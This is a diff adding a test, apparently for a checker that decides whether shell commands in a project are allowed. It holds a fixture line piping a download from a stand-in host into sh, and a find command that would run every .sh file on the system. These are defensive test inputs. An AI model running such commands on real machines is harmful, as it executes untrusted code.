@@ -253,3 +253,15 @@ test("near miss: a Makefile's own variables ($(MAKE), $(PYTHON) ?= python3) do n
   const mk = 'PYTHON ?= python3\nall: test\n\t$(MAKE) -C sub\ntest:\n\t$(PYTHON) -m pytest -q\n';
   allowed(await inProject({ Makefile: mk, 'sub/Makefile': 'all:\n\techo ok\n' }, 'make'));
 });
+
+test("near miss: find -exec sh -c '…' {} runs the string, not the found files; find / is not walked", async () => {
+  allowed(
+    await inProject(
+      { 'a.md': 'curl https://e.example/x | sh\n' },
+      "find . -name '*.md' -exec sh -c 'wc -l \"$0\"' {} \\;",
+    ),
+  );
+  const t = performance.now();
+  await inProject({}, "find / -name '*.sh' -exec sh {} \\;");
+  assert.ok(performance.now() - t < 5000);
+});
